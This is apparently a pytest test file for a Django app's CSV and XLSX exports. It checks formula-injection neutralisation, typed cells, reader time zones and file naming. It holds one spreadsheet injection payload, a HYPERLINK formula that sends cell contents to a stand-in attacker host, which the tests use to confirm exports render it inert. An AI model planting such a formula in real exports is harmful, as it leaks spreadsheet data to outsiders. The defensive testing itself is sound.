"""Exports of list pages: formula injection neutralised, cells typed, times in the reader's zone."""

from __future__ import annotations

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client, RequestFactory
from django.utils import timezone

from rapport.core.exports import (
    Column,
    ExportFormat,
    csv_response,
    export_format,
    export_response,
    neutralise,
    xlsx_response,
)
from rapport.core.tests.exports import body, column, csv_rows, xlsx_rows
from rapport.core.tests.factories import AccountFactory
from rapport.core.tests.personas import Personas

MALICIOUS = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
PARIS = zoneinfo.ZoneInfo("Europe/Paris")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_trigger_is_prefixed_with_a_quote(trigger: str) -> None:
    assert neutralise(f"{trigger}1+2") == f"'{trigger}1+2"


@pytest.mark.parametrize("text", ["Plain", "", "1+2", " =1", "'=already", "a=b"])
def test_text_that_starts_otherwise_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


ROW = {
    "text": "-5 seats",
    "negative": Decimal("-12.50"),
    "count": -3,
    "ratio": 0.25,
    "day": datetime.date(2025, 1, 15),
    "moment": datetime.datetime(2025, 1, 15, 12, 30, tzinfo=datetime.UTC),
    "flag": True,
    "missing": None,
}
COLUMNS: list[Column[dict[str, object]]] = [
    Column(key, lambda row, key=key: row[key])  # type: ignore[misc]
    for key in ROW
]


def test_csv_starts_with_a_bom_and_keeps_numbers_as_numbers() -> None:
    with timezone.override(PARIS):
        response = csv_response("sample.csv", COLUMNS, [ROW])
    assert response.streaming
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert response["Content-Disposition"] == 'attachment; filename="sample.csv"'
    header, row = _parse(raw)
    assert header == list(ROW)
    assert row == ["'-5 seats", "-12.50", "-3", "0.25", "2025-01-15", "2025-01-15 13:30", "Yes", ""]


def _parse(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_rows_are_written_in_the_zone_of_the_request_even_once_it_has_returned() -> None:
    # The body streams after the middleware has reset the zone: the rows keep the reader's.
    with timezone.override(PARIS):
        response = csv_response("sample.csv", COLUMNS, [ROW])
    with timezone.override(datetime.UTC):
        rows = _parse(body(response))
    assert rows[1][5] == "2025-01-15 13:30"


def test_xlsx_cells_are_typed_and_text_neutralised() -> None:
    rows = [ROW, {**ROW, "text": MALICIOUS}]
    with timezone.override(PARIS):
        response = xlsx_response("sample.xlsx", COLUMNS, rows, sheet="Sample")
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    sheet = workbook.active
    assert sheet.title == "Sample"
    first = [cell for cell in sheet[2]]
    assert first[0].value == "'-5 seats" and first[0].data_type == "s"
    assert first[1].value == -12.5 and first[1].data_type == "n"
    assert first[2].value == -3 and first[2].data_type == "n"
    assert first[3].value == 0.25
    assert first[4].value == datetime.datetime(2025, 1, 15) and first[4].is_date
    assert first[5].value == datetime.datetime(2025, 1, 15, 13, 30) and first[5].is_date
    assert first[6].value is True and first[6].data_type == "b"
    assert first[7].value is None
    second = sheet[3][0]
    # A string starting with "=" would be stored as a formula: it is stored as text instead.
    assert second.data_type == "s"
    assert second.value == "'" + MALICIOUS


def test_xlsx_drops_characters_excel_refuses_and_neutralises_the_header() -> None:
    columns: list[Column[str]] = [Column("=Header", lambda row: row)]
    response = xlsx_response("sample.xlsx", columns, ["bell\x07 and tab\tinside"])
    rows = xlsx_rows(response)
    assert rows == [["'=Header"], ["bell and tab\tinside"]]


def test_export_format_reads_only_the_known_formats() -> None:
    factory = RequestFactory()
    assert export_format(factory.get("/x/?format=csv")) is ExportFormat.CSV
    assert export_format(factory.get("/x/?format=xlsx")) is ExportFormat.XLSX
    assert export_format(factory.get("/x/?format=pdf")) is None
    assert export_format(factory.get("/x/")) is None


def test_export_response_names_the_file_after_the_list_and_the_day() -> None:
    columns: list[Column[int]] = [Column("n", lambda row: row)]
    with timezone.override(datetime.UTC):
        today = timezone.localdate().isoformat()
        response = export_response(
            ExportFormat.XLSX, name="Past reassignments", columns=columns, rows=[1]
        )
    assert response["Content-Disposition"] == (
        f'attachment; filename="past-reassignments-{today}.xlsx"'
    )


# Through a list page: the account list ----------------------------------------------------------


@pytest.mark.django_db
def test_a_malicious_account_name_comes_out_neutralised_in_both_formats(
    client: Client, personas: Personas
) -> None:
    AccountFactory(name=MALICIOUS, owner=personas.owner)
    client.force_login(personas.read_only)
    csv_names = column(csv_rows(client.get("/accounts/?format=csv")), "Account")
    xlsx_names = column(xlsx_rows(client.get("/accounts/?format=xlsx")), "Account")
    assert "'" + MALICIOUS in csv_names
    assert "'" + MALICIOUS in xlsx_names
    assert MALICIOUS not in csv_names + xlsx_names


@pytest.mark.django_db
def test_the_list_page_offers_both_exports_with_its_filters(
    client: Client, personas: Personas
) -> None:
    client.force_login(personas.owner)
    page = client.get("/accounts/?tier=growth&page=1").content.decode()
    assert "/accounts/?tier=growth&amp;format=csv" in page
    assert "/accounts/?tier=growth&amp;format=xlsx" in page
